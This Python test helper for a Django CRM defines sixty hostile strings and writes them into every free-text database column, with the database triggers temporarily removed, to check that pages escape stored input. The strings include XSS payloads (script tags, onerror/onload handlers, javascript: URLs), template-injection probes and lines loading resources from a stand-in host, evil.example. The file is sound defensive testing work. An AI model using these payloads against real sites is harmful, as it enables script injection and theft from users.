"""Sixty hostile texts (trust.md F1), and a way to write them in every free text of the database, below every guard of the
forms: what a form refuses today may stand in an old row or come by an import.
"""

from collections.abc import Iterator
from itertools import count
from typing import Any

from django.apps import apps
from django.db import connection, models

from crm import triggers

MARK = "ouïr"  # stands in none of our own words: where it is seen, a hostile text was shown
SUM = "51317"  # 7331 × 7: what a template that was executed would print

SCRIPTS = [
    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<script src=//evil.example/x.js></script>", "</script><script>{0}</script>",
    "</title><script>{0}</script>", "</textarea><script>{0}</script>", "</style><script>{0}</script>", "--><script>{0}</script>",
    "]]><script>{0}</script>", "<scr<script>ipt>{0}</scr</script>ipt>", "<script\x0b>{0}</script>", "\ufeff<script>{0}</script>",
]  # fmt: skip
TAGS = [
    "<img src=x onerror={0}>", "<img src=x:x onerror='{0}'>", "<svg onload={0}>", "<svg><script>{0}</script></svg>",
    "<svg><a xlink:href='javascript:{0}'><text y=9>x</text></a></svg>", "<math><mtext><img src=x onerror={0}></mtext></math>",
    "<body onload={0}>", "<iframe src=javascript:{0}>", "<iframe srcdoc='<script>{0}</script>'>", "<object data=//evil.example/x>",
    "<embed src=//evil.example/x>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{{background:url(//evil.example/x)}}</style>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<form action=//evil.example><input name=pwn>",
    "<input autofocus onfocus={0}>", "<details open ontoggle={0}>", "<video><source onerror={0}>", "<marquee onstart={0}>",
    "<button formaction=javascript:{0}>x", "<a href=javascript:{0}>x</a>", "<a href='jav&#x09;ascript:{0}'>x</a>",
    "<template><img src=x onerror={0}>",
    "<div hx-get=//evil.example/ hx-trigger=load>", "<div data-key=j onclick={0}>", "<p style=position:fixed;inset:0>x",
    "<!--<img src=\"--><img src=x onerror={0}>",
]  # fmt: skip
ATTRIBUTES = [
    '" onmouseover="{0}', "' onmouseover='{0}", '" autofocus onfocus="{0}" x="', "` onerror={0} `", '"><svg onload={0}>',
    "'><svg onload={0}>", "javascript:{0}//", "data:text/html,<script>{0}</script>", '&quot; onclick=&quot;{0}', "\\x3cscript\\x3e{0}",
]  # fmt: skip
WORDS = [
    "{{{{7331*7}}}}", "{{% now 'Y' %}}{{% load static %}}", "${{7331*7}} <%= 7331*7 %> #{{7331*7}}", "%(x)s %s %n {{0.__class__}}",
    "\u202egnp.erutcaf\u202c \u2066{0}\u2069", "=HYPERLINK(\"//evil.example\";\"x\")", "שלום עולם {0}", "e\u0301\u0301\u0301\u0301 \u200b\u200d {0}",
    "//evil.example/{0}", "https://evil.example/\"onmouseover=\"{0}",
]  # fmt: skip
# What one reads when it went through as text, and what runs when it did not.
PAYLOADS = [f"{shape.format('alert(1)')}{MARK}" for shape in (*SCRIPTS, *TAGS, *ATTRIBUTES, *WORDS)]

# Columns of words that are no free text: names of our own, proofs, and what decides who reads a row.
CODES = {
    "public_id", "language", "theme", "password", "smtp_secret", "smtp_host", "smtp_user", "holiday_zone", "time_zone",
    "encoding", "delimiter", "state", "template", "message_id", "in_reply_to", "guard", "purpose", "key", "about_kind",
    "about_ref", "text_version", "stored_as", "sha256", "digest", "content_type", "client_type", "step", "decision",
    "country", "email", "sender_email", "recipient_email", "reply_to", "email_key", "name_key", "address_key", "sort_name",
    "website", "mediator_website", "iban", "bic", "logo", "url", "back", "provider", "external_id", "intent", "number",
    "reference", "kind", "event", "chain", "journal", "account", "posting", "address", "match", "claim", "batch",
    "vat_exemption", "default_type", "html", "capital", "outcome", "row_hash", "way",
}  # fmt: skip
OURS = ("accounts", "crm", "billing", "complaints", "tact")
# The address of a person or a client is words; that of a mail that went wrong is not.
PLACES = {"crm_customer": "address", "crm_company": "address"}


def columns() -> Iterator[Any]:
    """Every column of free text of our own tables."""
    for model in apps.get_models():
        if model._meta.app_label not in OURS or not model._meta.managed:
            continue
        for field in model._meta.concrete_fields:
            text = isinstance(field, (models.CharField, models.TextField)) and not field.choices and not field.unique
            hashed = field.name.endswith(("hash", "_key"))
            if text and not hashed and (field.name not in CODES or PLACES.get(model._meta.db_table) == field.name):
                yield field


def by_model() -> dict[Any, list[Any]]:
    """Those columns, by their table."""
    found: dict[Any, list[Any]] = {}
    for field in columns():
        found.setdefault(field.model, []).append(field)
    return found


def type_everywhere(first: int = 0) -> int:
    """Write hostile texts in every column of free text, as many in each as it holds, beginning with the one of that rank; returns
    how many columns there are. The guards of the database are away meanwhile."""
    guards, turn, done = triggers.declared(), count(first), 0
    triggers.remove(connection, guards)
    for model, fields in by_model().items():
        rows = list(model._base_manager.only(*(field.name for field in fields)))
        for row in rows:
            for field in fields:
                if getattr(row, field.name) is not None:
                    setattr(row, field.name, fitting(field.max_length, next(turn)))
        model._base_manager.bulk_update(rows, [field.name for field in fields], batch_size=20)
        done += len(fields)
    triggers.install(connection, guards)
    return done


def fitting(longest: int | None, rank: int) -> str:
    """The texts from that rank on that fit in so many signs: at least one, all of them where there is room."""
    most, found = longest or 100_000, ""
    for place in range(len(PAYLOADS)):
        one = PAYLOADS[(rank + place) % len(PAYLOADS)]
        if len(found) + len(one) + 1 <= most:
            found += f"{one} "
    return found.strip() or PAYLOADS[rank % len(PAYLOADS)][:most]
